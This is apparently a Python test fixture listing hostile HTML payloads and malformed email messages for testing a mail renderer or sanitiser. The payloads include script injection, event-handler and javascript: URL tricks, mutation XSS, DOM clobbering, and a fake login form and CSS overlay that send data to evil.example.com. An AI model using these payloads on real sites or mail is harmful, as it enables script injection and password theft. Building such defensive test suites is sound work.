"""Hostile and broken messages. Each entry: what it shows, then its bytes.

@DATE@ stands for the message's date.
"""

from __future__ import annotations

# Each would set window.owned or fetch from evil.example.com if it worked.
_RUN = "window.owned=1;top.owned=1;fetch('https://evil.example.com/x')"
ATTACKS: tuple[tuple[str, str], ...] = (
    ("script element", f"<p>Hello</p><script>{_RUN}</script><p>after</p>"),
    ("onerror", f'<img src=x onerror="{_RUN}"><img src="x" OnLoad={_RUN}>'),
    ("javascript address", f'<a href="java&#x09;script:{_RUN}">click</a>'),
    ("svg", f'<svg onload="{_RUN}"><script>{_RUN}</script><a xlink:href="javascript:1">x</a></svg>'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example.com/">'),
    ("frame", '<iframe src="https://evil.example.com/"></iframe><object data="//evil.example.com/x">'),
    (
        "false login form",
        '<form action="https://evil.example.com/" method="post"><input name="password"'
        ' type="password"><button formaction="https://evil.example.com/2">Log in</button></form>',
    ),
    (
        "style",
        "<style>@import 'https://evil.example.com/a.css'; body{background:"
        "url(https://evil.example.com/b)} div{position:fixed;top:0;left:0;width:100vw;"
        'height:100vh;z-index:99999}</style><div style="behavior:url(x);width:expression(1)">'
        "<a href='https://evil.example.com/'>Your session ended</a></div>",
    ),
    ("base", '<base href="https://evil.example.com/"><a href="login">Log in</a><img src="a.png">'),
    ("mutation", f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_RUN}>--!>"),
    ("noscript", f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>'),
    ("template", f"<template><img src=x onerror={_RUN}></template><xmp><img src=x onerror={_RUN}>"),
    ("data address", f'<a href="data:text/html,<script>{_RUN}</script>">click</a>'),
    ("clobber", '<form id="cookie"><input name="parentNode"></form><img name="body" id="location">'),
    ("comment end", f"<!--><script>{_RUN}</script>--><![CDATA[<script>{_RUN}</script>]]>"),
    ("unclosed", "<div><table><b><i><a href='https://www.example.org/" + "x" * 200 + "'>never closed"),
)

_FROM = b"From: Broken Sender <broken@example.com>\nTo: anna@demo.test\n"
_DATE = b"Date: @DATE@\n"
_MIXED = b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n'


def _deep(levels: int) -> bytes:
    opening = b"".join(
        b'Content-Type: multipart/mixed; boundary="d%d"\n\n--d%d\n' % (at, at)
        for at in range(levels)
    )
    return opening + b"Content-Type: text/plain\n\nat the bottom\n"


BROKEN: tuple[tuple[str, bytes], ...] = (
    ("no headers at all", b"\nOnly a body, no header.\n"),
    ("no From, no Subject", _DATE + b"To: anna@demo.test\n\nWho wrote this?\n"),
    ("no Date", _FROM + b"Subject: Without a date\n\nNo date.\n"),
    ("a date that is none", _FROM + b"Date: yesterday at noon\nSubject: Bad date\n\nText.\n"),
    ("raw Latin-1 in the header", _FROM + _DATE + b"Subject: Gr\xfc\xdfe aus K\xf6ln\n\nGr\xfc\xdfe\n"),
    (
        "a wrong charset label",
        _FROM + _DATE + b"Subject: Wrong charset\nMIME-Version: 1.0\n"
        b"Content-Type: text/plain; charset=us-ascii\n\nGr\xc3\xbc\xc3\x9fe as UTF-8\n",
    ),
    (
        "an unknown charset",
        _FROM + _DATE + b"Subject: =?x-nowhere?B?aGVsbG8=?= unknown charset\n"
        b"MIME-Version: 1.0\nContent-Type: text/plain; charset=x-nowhere\n\nhello\n",
    ),
    (
        "a boundary that never comes",
        _FROM + _DATE + b"Subject: Unclosed\n" + _MIXED + b"\n--b\nContent-Type: text/plain\n\ntext",
    ),
    ("a multipart without parts", _FROM + _DATE + b"Subject: No parts\n" + _MIXED + b"\nprologue only\n"),
    (
        "broken base64",
        _FROM + _DATE + b"Subject: Broken base64\nMIME-Version: 1.0\nContent-Type: text/plain\n"
        b"Content-Transfer-Encoding: base64\n\nSGVsb!!G8gd29\n?ybGQ=====\n",
    ),
    (
        "broken quoted-printable",
        _FROM + _DATE + b"Subject: Broken QP\nMIME-Version: 1.0\nContent-Type: text/plain\n"
        b"Content-Transfer-Encoding: quoted-printable\n\n100=ZZ percent = \nend=\n",
    ),
    (
        "encoded words cut inside a character",
        _FROM + _DATE + b"Subject: =?utf-8?B?R3LD?= =?utf-8?B?vMOfZQ==?= =?utf-8?Q?unclosed\n\nx\n",
    ),
    ("an empty body", _FROM + _DATE + b"Subject: Empty\n\n"),
    ("a line of 20,000 characters", _FROM + _DATE + b"Subject: Long line\n\n" + b"word " * 4000 + b"\n"),
    ("a group as recipient", b"From: a@example.com\nTo: undisclosed-recipients:;\n" + _DATE + b"Subject: Group\n\nx\n"),
    ("parts nested forty deep", _FROM + _DATE + b"Subject: Deep\nMIME-Version: 1.0\n" + _deep(40)),
    (
        "control characters and direction marks",
        _FROM + _DATE + b"Subject: =?utf-8?B?4oCuZ3BqLmV4ZQ==?= \x07bell\n\nbell \x07 escape \x1b[31m\n",
    ),
    ("two Content-Types", _FROM + _DATE + b"Subject: Two types\nContent-Type: text/plain\nContent-Type: text/html\n\n<b>x</b>\n"),
)
